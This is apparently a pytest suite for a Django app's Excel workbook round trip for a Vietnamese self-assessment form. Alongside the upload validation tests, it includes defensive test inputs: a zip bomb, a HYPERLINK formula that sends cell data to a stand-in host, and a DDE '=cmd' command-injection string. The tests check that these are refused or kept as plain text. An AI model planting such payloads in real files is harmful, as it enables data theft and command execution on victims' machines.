"""The self-assessment as a workbook: download, fill offline, upload, preview, confirm; the same
answers and audit entries as the form; every broken file refused with its cell, saving nothing."""

from __future__ import annotations

import io
from typing import Any

import pytest
from django.test import Client
from tests.web.conftest import Cast, make_user
from tests.web.selfassessment.conftest import Mau, check_zip, save, upload

from chiso.web.accounts.models import Role
from chiso.web.audit.models import Action, AuditEntry
from chiso.web.cycles.models import Participation, Unit
from chiso.web.submissions.models import Answer, Submission, SubmissionState

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def download(client: Client, part: Participation) -> Any:
    from openpyxl import load_workbook

    response = client.get(f"/submissions/{part.pk}/workbook.xlsx")
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"] == XLSX
    return load_workbook(io.BytesIO(response.content))


def rows(book: Any) -> dict[str, int]:
    sheet = book.worksheets[0]
    return {
        str(sheet.cell(row, 1).value): row
        for row in range(5, sheet.max_row + 1)
        if sheet.cell(row, 1).value
    }


def fill(book: Any, cells: dict[tuple[str, str], Any]) -> bytes:
    """Set (code, column letter) cells and give the file's bytes."""
    sheet = book.worksheets[0]
    where = rows(book)
    for (code, column), value in cells.items():
        sheet[f"{column}{where[code]}"] = value
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def send(client: Client, part: Participation, content: bytes, name: str = "form.xlsx") -> Any:
    return client.post(f"/submissions/{part.pk}/workbook/", {"file": upload(name, content, XLSX)})


def confirm(client: Client, part: Participation) -> Any:
    """Confirm the preview held in the session (its token, as the preview's form posts it)."""
    held = client.session.get(f"workbook:{part.pk}") or {}
    return client.post(
        f"/submissions/{part.pk}/workbook/confirm/", {"token": held.get("token", "")}
    )


def answers(part: Participation) -> dict[str, tuple[str, Any, bool, str]]:
    return {
        a.code: (a.value, a.denominator, a.not_applicable, a.comment)
        for a in Answer.objects.filter(submission__participation=part)
    }


def trail(part: Participation) -> list[tuple[str, str, str, str, str]]:
    return sorted(
        (e.action, e.code, e.old, e.new, e.note)
        for e in AuditEntry.objects.filter(unit=part.unit, action=Action.ANSWER)
    )


FILLED = {
    ("A.1", "E"): "Có",
    ("A.2", "E"): 45,
    ("A.2", "F"): 60,
    ("A.3", "E"): 3,
    ("C.3", "E"): "Một phần văn bản đi",
    ("D.2", "E"): 1.5,
    ("E.2", "E"): "Phần mềm một cửa",
    ("E.2", "H"): "Theo báo cáo quý",
    ("B.2", "G"): "Có",
}


def test_the_workbook_has_a_protected_row_per_criterion_with_lists(mau: Mau, cast: Cast) -> None:
    client = cast.client(mau.editor)
    save(client, mau.part, "A.3", "4")
    book = download(client, mau.part)
    sheet = book.worksheets[0]
    assert sheet.title == "Tự đánh giá"
    assert [sheet.cell(4, c).value for c in range(1, 9)] == [
        "Mã",
        "Tiêu chí",
        "Hướng dẫn",
        "Điểm tối đa",
        "Trả lời",
        "Mẫu số",
        "Không áp dụng",
        "Ghi chú",
    ]
    where = rows(book)
    assert "F" not in where and {"A", "A.1", "B", "B.2", "E.2"} <= set(where)
    assert sheet[f"E{where['A.3']}"].value == 4  # pre-filled with what is saved
    assert sheet.protection.sheet
    assert not sheet[f"E{where['A.1']}"].protection.locked
    assert sheet[f"B{where['A.1']}"].protection.locked
    assert sheet[f"G{where['A.1']}"].value is None  # A.1 cannot be not applicable
    assert sheet[f"G{where['B.2']}"].value == "Không"
    assert sheet[f"F{where['A.1']}"].protection.locked  # no denominator for yes/no
    assert not sheet[f"F{where['A.2']}"].protection.locked
    validations = {str(v.sqref): v for v in sheet.data_validations.dataValidation}
    lists = [v for v in validations.values() if v.type == "list"]
    assert any(v.formula1 == '"Có,Không"' and f"E{where['A.1']}" in str(v.sqref) for v in lists)
    assert any(f"E{where['C.3']}" in str(v.sqref) and "lists" in v.formula1 for v in lists)
    assert any(
        v.type == "whole" and f"E{where['A.3']}" in str(v.sqref) for v in validations.values()
    )
    points = [v for v in validations.values() if f"E{where['D.2']}" in str(v.sqref)]
    assert [(v.type, v.operator, v.formula1, v.formula2) for v in points] == [
        ("decimal", "between", "0", "3")
    ]
    assert points[0].showErrorMessage and points[0].error == "Nhập số điểm từ 0 đến 3."
    ident = book["chiso"]
    assert ident.sheet_state == "hidden"
    assert {r[0].value: r[1].value for r in ident.iter_rows()}["unit_name"] == "Sở Alpha"
    assert sheet.page_setup.fitToWidth == 1 and sheet.sheet_properties.pageSetUpPr.fitToPage


def test_round_trip_saves_what_the_form_saves_with_the_same_audit(mau: Mau, cast: Cast) -> None:
    client = cast.client(mau.editor)
    content = fill(download(client, mau.part), FILLED)
    response = send(client, mau.part, content)
    html = response.content.decode()
    assert response.status_code == 200, html
    assert "<h2>7 thay đổi</h2>" in html
    assert "45/60" in html and "Một phần văn bản đi" in html
    assert not Answer.objects.filter(submission__participation=mau.part).exists()  # preview only
    done = confirm(client, mau.part)
    assert done.status_code == 302 and done["Location"] == f"/submissions/{mau.part.pk}/"
    saved = answers(mau.part)
    # the same changes through the form, on another unit of the same block
    beta = Participation.objects.create(
        cycle=mau.cycle,
        unit=Unit.objects.create(organisation=mau.cycle.organisation, name="Sở Beta"),
        block="so",
    )
    other = cast.client(make_user("beta_editor", Role.EDITOR, beta.unit))
    for code, value, extra in (
        ("A.1", "1", {}),
        ("A.2", "45", {"denominator": "60"}),
        ("A.3", "3", {}),
        ("C.3", "mot-phan", {}),
        ("D.2", "1,5", {}),
        ("B.2", "", {"na": True}),
    ):
        assert save(other, beta, code, value, **extra).status_code == 200
    other.post(
        f"/submissions/{beta.pk}/answer/",
        {"code": "E.2", "value": "Phần mềm một cửa", "comment": "Theo báo cáo quý"},
        HTTP_HX_REQUEST="true",
    )
    assert saved == answers(beta)
    assert trail(mau.part) == trail(beta)
    assert saved["A.2"][:2] == ("45", 60) and saved["B.2"][2]


def test_a_change_since_the_upload_is_a_conflict_and_saves_nothing(mau: Mau, cast: Cast) -> None:
    client = cast.client(mau.editor)
    save(client, mau.part, "A.3", "4")
    content = fill(download(client, mau.part), {("A.3", "E"): 5, ("A.1", "E"): "Không"})
    assert send(client, mau.part, content).status_code == 200
    save(cast.client(mau.head), mau.part, "A.3", "7", revision=1)
    response = confirm(client, mau.part)
    assert response.status_code == 302
    assert answers(mau.part)["A.3"][0] == "7" and "A.1" not in answers(mau.part)
    page = client.get(response["Location"]).content.decode()
    assert "A.3" in page and "không có gì được lưu" in page.lower()


def refused(client: Client, part: Participation, content: bytes, *needles: str) -> str:
    before = (answers(part), AuditEntry.objects.count())
    response = send(client, part, content)
    html = response.content.decode()
    assert response.status_code == 422, html
    for needle in needles:
        assert needle in html, needle
    assert "Lưu các thay đổi này" not in html
    assert 'type="file"' in html  # to upload the corrected workbook
    assert confirm(client, part).status_code == 302
    assert (answers(part), AuditEntry.objects.count()) == before
    return html


def test_text_in_a_number_cell_is_named_by_sheet_row_and_column(mau: Mau, cast: Cast) -> None:
    client = cast.client(mau.editor)
    book = download(client, mau.part)
    row = rows(book)["A.3"]
    content = fill(book, {("A.3", "E"): "ba", ("A.1", "E"): "Có"})
    html = refused(
        client, mau.part, content, "Tự đánh giá", f"<td>{row}</td><td>E</td><td>A.3</td>"
    )
    assert "Nhập" in html  # the form's own message


def test_the_docs_example_of_a_refused_cell(mau: Mau, cast: Cast) -> None:
    """docs/self-assessment.md, "Working offline in Excel", step 3."""
    client = cast.client(mau.editor)
    content = fill(download(client, mau.part), {("A.3", "E"): 2.5})
    refused(
        client,
        mau.part,
        content,
        "<td>Tự đánh giá</td><td>8</td><td>E</td><td>A.3</td>"
        "<td>Nhập một số nguyên, từ 0 trở lên.</td>",
    )


def test_a_formula_is_refused_not_evaluated(mau: Mau, cast: Cast) -> None:
    client = cast.client(mau.editor)
    content = fill(download(client, mau.part), {("A.3", "E"): "=1+2"})
    refused(client, mau.part, content, "công thức", "<td>E</td><td>A.3</td>")


@pytest.mark.parametrize(
    ("cells", "needle"),
    [
        ({("A.1", "A"): "Z.9"}, "Z.9"),  # unknown code (and A.1 missing)
        ({("A.1", "G"): "Có"}, "không áp dụng"),  # not applicable where not allowed
        ({("C.3", "E"): "Toàn bộ văn bản"}, "C.3"),  # not an option
        ({("A.1", "A"): None}, "Trang tính thiếu tiêu chí này"),  # a code wiped out
        (
            {("A.1", "F"): 3},
            "<td>F</td><td>A.1</td><td>Tiêu chí này không có mẫu số",
        ),  # a denominator for yes/no
        ({("B", "E"): 5}, "Nhóm tiêu chí không nhận câu trả lời"),  # an answer on a group
    ],
)
def test_wrong_codes_and_values_are_refused(
    mau: Mau, cast: Cast, cells: dict[tuple[str, str], Any], needle: str
) -> None:
    client = cast.client(mau.editor)
    refused(client, mau.part, fill(download(client, mau.part), cells), needle)


def test_another_units_or_cycles_workbook_is_refused_by_name(mau: Mau, cast: Cast) -> None:
    client = cast.client(mau.editor)
    beta = Participation.objects.create(
        cycle=mau.cycle,
        unit=Unit.objects.create(organisation=mau.cycle.organisation, name="Sở Beta"),
        block="so",
    )
    admin = cast.client(cast.admin)
    theirs = admin.get(f"/submissions/{beta.pk}/workbook.xlsx").content
    refused(client, mau.part, theirs, "Sở Beta", "Sở Alpha")


def test_files_that_are_no_workbook_are_refused(mau: Mau, cast: Cast) -> None:
    from openpyxl import Workbook

    client = cast.client(mau.editor)
    refused(client, mau.part, b"%PDF-1.4 not a workbook", "XLSX")
    plain = io.BytesIO()
    Workbook().save(plain)
    refused(client, mau.part, plain.getvalue(), "chiso")


def test_a_sheet_of_50000_rows_is_refused_without_reading_it_all(mau: Mau, cast: Cast) -> None:
    client = cast.client(mau.editor)
    book = download(client, mau.part)
    sheet = book.worksheets[0]
    for row in range(sheet.max_row + 1, 50_001):
        sheet.cell(row, 1, f"X.{row}")
    buffer = io.BytesIO()
    book.save(buffer)
    refused(client, mau.part, buffer.getvalue(), "“Tự đánh giá” có hơn 2.000 dòng")


def test_a_truncated_workbook_is_refused(mau: Mau, cast: Cast) -> None:
    client = cast.client(mau.editor)
    content = fill(download(client, mau.part), {("A.1", "E"): "Có"})
    refused(client, mau.part, content[: len(content) // 2], "XLSX")


def test_a_percentage_typed_with_its_sign_is_the_percentage(mau: Mau, cast: Cast) -> None:
    client = cast.client(mau.editor)
    book = download(client, mau.part)
    cell = book.worksheets[0][f"E{rows(book)['B.1']}"]
    cell.number_format = "0%"
    response = send(client, mau.part, fill(book, {("B.1", "E"): 0.45}))
    assert response.status_code == 200 and "<td>45 %</td>" in response.content.decode()
    confirm(client, mau.part)
    assert answers(mau.part)["B.1"][0] == "45"


def test_a_zip_bomb_is_refused(mau: Mau, cast: Cast) -> None:
    import zipfile

    client = cast.client(mau.editor)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * (80 * 1024 * 1024))
    refused(client, mau.part, buffer.getvalue(), "MB")


def test_a_submitted_self_assessment_takes_no_workbook(mau: Mau, cast: Cast) -> None:
    client = cast.client(mau.editor)
    content = fill(download(client, mau.part), {("A.1", "E"): "Có"})
    assert send(client, mau.part, content).status_code == 200
    Submission.objects.filter(participation=mau.part).update(state=SubmissionState.SUBMITTED)
    Submission.objects.get_or_create(participation=mau.part, defaults={"state": "submitted"})
    response = send(client, mau.part, content)
    assert response.status_code == 403 and "đã được nộp" in response.content.decode()
    confirm(client, mau.part)
    assert not answers(mau.part)


# --- every unit's workbook at once: the assessor ------------------------------------------


def test_the_assessor_downloads_every_units_workbook_and_checks_them_back(
    mau: Mau, cast: Cast
) -> None:
    import zipfile

    from openpyxl import load_workbook

    beta = Participation.objects.create(
        cycle=mau.cycle,
        unit=Unit.objects.create(organisation=mau.cycle.organisation, name="Sở Beta"),
        block="so",
    )
    beta_head = make_user("beta_head", Role.HEAD, beta.unit)
    save(cast.client(beta_head), beta, "A.1", "1")
    Submission.objects.filter(participation=beta).update(state=SubmissionState.SUBMITTED)
    admin = cast.client(cast.admin)
    dashboard = admin.get(f"/cycles/{mau.cycle.pk}/").content.decode()
    assert f"/cycles/{mau.cycle.pk}/workbooks/" in dashboard
    response = admin.get(f"/cycles/{mau.cycle.pk}/workbooks.zip")
    assert response.status_code == 200
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    names = sorted(archive.namelist())
    assert len(names) == 2 and all(name.endswith(".xlsx") for name in names)
    # fill both, and give them each other's file names: the identification inside decides
    filled = {}
    for name in names:
        book = load_workbook(io.BytesIO(archive.read(name)))
        filled[name] = fill(book, {("A.3", "E"): 2, ("D.2", "E"): "nhiều"})
    back = io.BytesIO()
    with zipfile.ZipFile(back, "w") as out:
        out.writestr(names[0], filled[names[1]])
        out.writestr(names[1], filled[names[0]])
        out.writestr("ghi-chu.txt", b"not a workbook")
    before = (answers(mau.part), answers(beta), AuditEntry.objects.count())
    checked = check_zip(admin, mau.cycle, back.getvalue())
    html = checked.content.decode()
    assert checked.status_code == 200, html
    assert "3 biểu mẫu" in html and "Sở Alpha" in html and "Sở Beta" in html
    assert html.count("<td>D.2</td>") == 2  # each unit's text in a number cell, named
    assert "Không thể sửa" in html  # Sở Beta has submitted
    assert "Tệp không phải bảng tính Excel" in html
    assert (answers(mau.part), answers(beta), AuditEntry.objects.count()) == before
    # a workbook whose packed data is damaged is reported, the others read
    damaged = bytearray(back.getvalue())
    start = damaged.index(b"PK\x03\x04") + 30 + len(names[0]) + 50
    damaged[start : start + 200] = bytes(200)
    checked = check_zip(admin, mau.cycle, bytes(damaged))
    assert checked.status_code == 200
    assert checked.content.decode().count("Tệp không phải bảng tính Excel") == 2  # and the .txt
    # a file that is no ZIP
    bad = check_zip(admin, mau.cycle, b"nope", "x.zip")
    assert bad.redirect_chain[-1][0].startswith("/jobs/")  # the job's page, with its error
    assert "x.zip: Tệp không phải" in bad.content.decode() and "ZIP" in bad.content.decode()
    assert (answers(mau.part), answers(beta), AuditEntry.objects.count()) == before


def test_the_form_links_to_its_workbook_for_those_who_may_use_it(mau: Mau, cast: Cast) -> None:
    url = f"/submissions/{mau.part.pk}/"
    editor = cast.client(mau.editor).get(url).content.decode()
    assert "Tải biểu mẫu Excel" in editor and "Tải lên biểu mẫu đã điền" in editor
    admin = cast.client(cast.admin).get(url).content.decode()
    assert "Tải biểu mẫu Excel" in admin and "Tải lên biểu mẫu đã điền" not in admin
    viewer = cast.client(cast.viewer).get(url).content.decode()
    assert "Tải biểu mẫu Excel" not in viewer
    assert (
        "/workbooks/"
        not in cast.client(cast.viewer).get(f"/cycles/{mau.cycle.pk}/").content.decode()
    )


def test_text_that_looks_like_a_formula_is_written_as_text_and_reads_back(
    mau: Mau, cast: Cast
) -> None:
    client = cast.client(mau.editor)
    note = '=HYPERLINK("http://x.example/?"&B2,"xem")'
    client.post(
        f"/submissions/{mau.part.pk}/answer/",
        {"code": "E.2", "value": "=1+2", "comment": note},
        HTTP_HX_REQUEST="true",
    )
    assert answers(mau.part)["E.2"][::3] == ("=1+2", note)
    Unit.objects.filter(pk=mau.part.unit_id).update(name="=cmd|' /C calc'!A0")
    book = download(client, mau.part)
    sheet = book.worksheets[0]
    row = rows(book)["E.2"]
    for cell in (sheet[f"E{row}"], sheet[f"H{row}"], sheet["A1"]):
        assert cell.data_type == "s" and cell.value.startswith(("=", "Tự"))
    assert sheet[f"H{row}"].quotePrefix and sheet[f"H{row}"].value == note
    assert book["chiso"]["B5"].data_type == "s" and book["chiso"]["B5"].quotePrefix
    buffer = io.BytesIO()
    book.save(buffer)
    response = send(client, mau.part, buffer.getvalue())
    assert response.status_code == 200 and "không có gì thay đổi" in response.content.decode()


def test_a_confirmation_saves_only_the_preview_it_was_shown_with(mau: Mau, cast: Cast) -> None:
    client = cast.client(mau.editor)
    book = download(client, mau.part)
    first = send(client, mau.part, fill(book, {("A.3", "E"): 3})).content.decode()
    token = first.split('name="token" value="')[1].split('"')[0]
    send(client, mau.part, fill(book, {("A.3", "E"): 9}))  # another tab, later
    response = client.post(f"/submissions/{mau.part.pk}/workbook/confirm/", {"token": token})
    assert response.status_code == 302 and not answers(mau.part)


def test_a_workbook_from_the_english_page_uploads_on_the_vietnamese_page(
    mau: Mau, cast: Cast
) -> None:
    """The yes/no labels are written in Vietnamese whatever the page's language, and read in
    either: a workbook downloaded in English refuses none of its cells in Vietnamese."""
    client = cast.client(mau.editor)
    save(client, mau.part, "A.1", "1")
    save(client, mau.part, "B.2", "", na=True)
    client.post("/i18n/setlang/", {"language": "en", "next": "/"})  # the language switch
    book = download(client, mau.part)
    sheet = book.worksheets[0]
    assert sheet.title == "Self-assessment"  # the page's language elsewhere
    where = rows(book)
    assert sheet[f"E{where['A.1']}"].value == "Có"
    assert sheet[f"G{where['B.2']}"].value == "Có"
    validations = sheet.data_validations.dataValidation
    assert any(v.formula1 == '"Có,Không"' for v in validations)
    content = fill(book, {("A.3", "E"): 3})
    client.post("/i18n/setlang/", {"language": "vi", "next": "/"})
    uploaded = send(client, mau.part, content)
    html = uploaded.content.decode()
    assert uploaded.status_code == 200, html
    assert "Chọn có hoặc không" not in html and "A.3" in html
    assert confirm(client, mau.part).status_code == 302
    saved = answers(mau.part)
    assert saved["A.1"][0] == "1" and saved["B.2"][2] and saved["A.3"][0] == "3"


@pytest.mark.parametrize(
    ("answer", "declared", "value", "not_applicable"),
    [
        ("Yes", "No", "1", False),
        ("KHÔNG", "yes", "0", True),
        ("no", "có", "0", True),
        ("không", "NO", "0", False),
        ("x", "Không", "1", False),
        ("0", "", "0", False),
    ],
)
@pytest.mark.parametrize("language", ["vi", "en"])
def test_yes_and_no_are_read_in_either_language(
    mau: Mau,
    cast: Cast,
    answer: str,
    declared: str,
    value: str,
    not_applicable: bool,
    language: str,
) -> None:
    client = cast.client(mau.editor)
    content = fill(download(client, mau.part), {("A.1", "E"): answer, ("B.2", "G"): declared})
    client.post("/i18n/setlang/", {"language": language, "next": "/"})
    response = send(client, mau.part, content)
    assert response.status_code == 200, response.content.decode()
    assert confirm(client, mau.part).status_code == 302
    saved = answers(mau.part)
    assert saved["A.1"][0] == value
    assert saved.get("B.2", ("", None, False, ""))[2] is not_applicable


def test_a_text_neither_yes_nor_no_is_refused_as_not_applicable(mau: Mau, cast: Cast) -> None:
    client = cast.client(mau.editor)
    content = fill(download(client, mau.part), {("B.2", "G"): "có lẽ"})
    refused(client, mau.part, content, "<td>G</td><td>B.2</td>")


def test_names_holding_control_characters_do_not_stop_the_download(mau: Mau, cast: Cast) -> None:
    """A cycle, framework or unit name stored with a control character (that XLSX cannot hold)
    is written without it, not a 500."""
    mau.cycle.name = "Kỳ\x07 đánh giá 2026"
    mau.cycle.save(update_fields=["name"])
    version = mau.cycle.framework
    version.name = "Bộ\x0b tiêu chí"
    version.save(update_fields=["name"])
    Unit.objects.filter(pk=mau.part.unit_id).update(name="Sở\x1f Alpha")
    book = download(cast.client(mau.editor), mau.part)
    sheet = book.worksheets[0]
    assert sheet["A1"].value.endswith(": Sở Alpha")
    assert "Kỳ đánh giá 2026" in sheet["A2"].value and "Bộ tiêu chí" in sheet["A2"].value
    assert book["chiso"]["B4"].value == "Kỳ đánh giá 2026"
